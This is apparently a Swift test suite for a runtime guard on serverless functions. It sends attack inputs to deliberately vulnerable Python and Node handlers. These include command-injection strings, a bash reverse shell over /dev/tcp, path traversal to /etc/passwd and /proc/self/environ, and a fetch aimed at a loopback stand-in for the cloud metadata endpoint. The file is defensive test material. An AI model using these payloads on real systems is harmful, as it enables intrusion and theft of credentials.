import Foundation
import PalisadeJSON
import PalisadeLocal
import Testing

/// The behaviour guard with the real runtimes: vulnerable functions that build a shell command, a
/// file path and a URL from a query parameter, under a policy that allows their benign command.
enum GuardScenario {
    static func python() -> LocalFunction {
        LocalFunction(runtime: .python, directory: Fixtures.repository + "/Tests/PalisadeLocalTests/GuardFunctions/python", handler: "app.handler", name: "convert-api")
    }

    static func node() -> LocalFunction {
        LocalFunction(runtime: .node, directory: Fixtures.repository + "/Tests/PalisadeLocalTests/GuardFunctions/node", handler: "app.handler", name: "convert-api")
    }

    /// Event checks off (the guard is the line of defence under test), every behaviour part in `mode`;
    /// the forbidden address stands in for the metadata endpoint.
    static func policy(_ mode: String) -> String {
        """
        {"mode": "off", "behaviour": {
          "processes": {"mode": "\(mode)", "allow": ["^echo converting [\\\\w.-]+$"]},
          "files": {"mode": "\(mode)"},
          "network": {"mode": "\(mode)", "deny": [{"cidr": "\(LoopbackListener.forbiddenAddress)/32"}]}}}
        """
    }

    static let commandAttacks = [
        "x; cat /etc/passwd",
        "$(id)",
        "`id`",
        "x | sh",
        "x && env",
        "x; bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    ]

    /// Deep enough to reach / from a checkout at any depth.
    static let fileAttacks = ["/proc/self/environ", String(repeating: "../", count: 24) + "etc/passwd"]

    static func environment(_ mode: String, listener: LoopbackListener) -> [String: String] {
        ["PALISADE_POLICY": policy(mode), "BEACON_ADDRESS": LoopbackListener.forbiddenAddress, "BEACON_PORT": String(listener.port)]
    }

    struct Answers {
        var benign: [(status: Int, body: String)] = []
        var commands: [(status: Int, body: String)] = []
        var files: [(status: Int, body: String)] = []
        var fetch: (status: Int, body: String) = (0, "")
        var beacon: (status: Int, body: String) = (0, "")
    }

    /// Every request of the scenario through one warm environment.
    static func run(_ function: LocalFunction, mode: String, listener: LoopbackListener) async throws -> Fixtures.Outcome<Answers> {
        try await Fixtures.run(function, guarded: true, environment: environment(mode, listener: listener)) { local in
            var answers = Answers()
            answers.benign.append(try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/convert", ["doc": "report.txt"]))))
            answers.benign.append(try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/read", ["name": "report.txt"]))))
            for attack in commandAttacks {
                answers.commands.append(try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/convert", ["doc": attack]))))
            }
            for attack in fileAttacks {
                answers.files.append(try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/read", ["name": attack]))))
            }
            if mode == "mitigate" {
                // In report mode the silent listener would hold the fetch until its timeout.
                answers.fetch = try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/fetch", ["url": "http://\(LoopbackListener.forbiddenAddress):\(listener.port)/latest/meta-data/"])))
            }
            answers.beacon = try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/beacon")))
            return answers
        }
    }

    /// The checks shared by both runtimes in mitigate mode.
    static func expectMitigated(_ outcome: Fixtures.Outcome<Answers>, listener: LoopbackListener, refusal: String) {
        let answers = outcome.value
        #expect(answers.benign.map(\.status) == [200, 200], "\(answers.benign)")
        #expect(answers.benign[0].body.contains("converting report.txt"))
        #expect(answers.benign[1].body.contains("quarterly report"))
        for (attack, answer) in zip(commandAttacks, answers.commands) {
            #expect(answer.status == 500 && answer.body.contains(refusal), "\(attack) was not refused: \(answer)")
            #expect(!answer.body.contains("root:") && !answer.body.contains("uid="))
        }
        let processEvents = Fixtures.events(outcome.events, category: "process")
        for attack in commandAttacks {
            let event = processEvents.first { $0.value(at: "input", "evidence")?.string == attack }
            #expect(event?["action"]?.string == "blocked", "no blocked process event for \(attack)")
            #expect(event?["rule"]?.string == "process.input-injection")
            #expect(event?.value(at: "input", "location")?.string == "queryStringParameters.doc")
            #expect(event?["location"]?.string == "queryStringParameters.doc")
            #expect(event?["script"]?.string == "echo converting " + attack)
        }
        for (attack, answer) in zip(fileAttacks, answers.files) {
            #expect(answer.status == 500, "\(attack) was read: \(answer)")
            #expect(!answer.body.contains("root:") && !answer.body.contains("AWS_SECRET_ACCESS_KEY"))
        }
        let fileEvents = Fixtures.events(outcome.events, category: "file")
        for attack in fileAttacks {
            let event = fileEvents.first { $0.value(at: "input", "evidence")?.string == attack }
            #expect(event?["action"]?.string == "blocked", "no blocked file event for \(attack)")
            #expect(event?.value(at: "input", "location")?.string == "queryStringParameters.name")
        }
        #expect(fileEvents.contains { $0["path"]?.string == "/proc/self/environ" })
        #expect(answers.fetch.status == 500, "\(answers.fetch)")
        #expect(answers.beacon.status == 500, "\(answers.beacon)")
        #expect(listener.acceptedConnections() == 0, "a connection reached the forbidden address")
        let networkEvents = Fixtures.events(outcome.events, category: "network")
        #expect(networkEvents.contains { $0["rule"]?.string == "network.input-injection" && $0.value(at: "input", "location")?.string == "queryStringParameters.url" })
        #expect(networkEvents.contains { $0["rule"]?.string == "network.denied" && $0["address"]?.string == LoopbackListener.forbiddenAddress && $0["action"]?.string == "blocked" })
        #expect(outcome.log.contains(#""palisade":"guard","action":"blocked""#), "the function's stderr shows the refusal")
    }

    /// Report mode: everything ran, everything was recorded.
    static func expectReported(_ outcome: Fixtures.Outcome<Answers>, listener: LoopbackListener) {
        let answers = outcome.value
        #expect(answers.benign.map(\.status) == [200, 200])
        #expect(answers.commands.allSatisfy { $0.status == 200 }, "\(answers.commands)")
        #expect(answers.commands[0].body.contains("root:"), "the injected command ran, as report mode allows")
        #expect(answers.commands[1].body.contains("uid="))
        #expect(answers.files.allSatisfy { $0.status == 200 }, "\(answers.files)")
        #expect(answers.files[0].body.contains("BEACON_PORT"))
        #expect(answers.beacon.status == 200, "\(answers.beacon)")
        #expect(listener.acceptedConnections() == 1)
        let events = outcome.events.map(\.root)
        // Learn mode: allowed operations are recorded as `observed`; every finding is `reported`.
        #expect(events.contains { $0["action"]?.string == "observed" && $0["rule"]?.string == "file.observed" })
        #expect(events.filter { $0["action"]?.string != "observed" }.allSatisfy { $0["action"]?.string == "reported" }, "\(outcome.eventSummary)")
        for attack in commandAttacks {
            #expect(events.contains { $0["category"]?.string == "process" && $0.value(at: "input", "evidence")?.string == attack }, "\(attack) was not recorded")
        }
        for attack in fileAttacks {
            #expect(events.contains { $0["category"]?.string == "file" && $0.value(at: "input", "evidence")?.string == attack }, "\(attack) was not recorded")
        }
        #expect(events.contains { $0["rule"]?.string == "network.denied" })
        #expect(!events.contains { $0.value(at: "input", "evidence")?.string == "report.txt" }, "the benign requests raised events")
    }
}

@Suite(.timeLimit(.minutes(3))) struct PythonGuardTests {
    @Test func mitigateModeRefusesInjectedCommandsFilesAndConnections() async throws {
        let listener = try LoopbackListener()
        let outcome = try await GuardScenario.run(GuardScenario.python(), mode: "mitigate", listener: listener)
        GuardScenario.expectMitigated(outcome, listener: listener, refusal: "Operation not permitted")
    }

    @Test func reportModeLetsEverythingRunAndRecordsIt() async throws {
        let listener = try LoopbackListener()
        let outcome = try await GuardScenario.run(GuardScenario.python(), mode: "report", listener: listener)
        GuardScenario.expectReported(outcome, listener: listener)
    }
}

@Suite(.timeLimit(.minutes(3))) struct NodeGuardTests {
    @Test func mitigateModeRefusesInjectedCommandsFilesAndConnections() async throws {
        let listener = try LoopbackListener()
        let outcome = try await GuardScenario.run(GuardScenario.node(), mode: "mitigate", listener: listener)
        GuardScenario.expectMitigated(outcome, listener: listener, refusal: "EPERM")
    }

    @Test func reportModeLetsEverythingRunAndRecordsIt() async throws {
        let listener = try LoopbackListener()
        let outcome = try await GuardScenario.run(GuardScenario.node(), mode: "report", listener: listener)
        GuardScenario.expectReported(outcome, listener: listener)
    }
}

/// A TCP listener on a loopback address that never answers: it counts the connections that reached it.
final class LoopbackListener: @unchecked Sendable {
    /// Any 127/8 address works on Linux; this one plays the metadata endpoint.
    static let forbiddenAddress = "127.0.0.169"

    let descriptor: Int32
    let port: Int

    init(address: String = forbiddenAddress) throws {
        let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var socketAddress = sockaddr_in()
        socketAddress.sin_family = sa_family_t(AF_INET)
        inet_pton(AF_INET, address, &socketAddress.sin_addr)
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &socketAddress) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { address in
                bind(descriptor, address, length) == 0 && listen(descriptor, 16) == 0 && getsockname(descriptor, address, &length) == 0
            }
        }
        guard bound else {
            close(descriptor)
            throw CocoaError(.fileWriteUnknown, userInfo: [NSLocalizedDescriptionKey: "cannot listen on \(address)"])
        }
        _ = fcntl(descriptor, F_SETFL, fcntl(descriptor, F_GETFL) | O_NONBLOCK)
        self.descriptor = descriptor
        port = Int(UInt16(bigEndian: socketAddress.sin_port))
    }

    deinit { close(descriptor) }

    /// Connections waiting to be accepted (each accepted and closed here).
    func acceptedConnections() -> Int {
        var count = 0
        while case let client = accept(descriptor, nil, nil), client >= 0 {
            close(client)
            count += 1
        }
        return count
    }
}
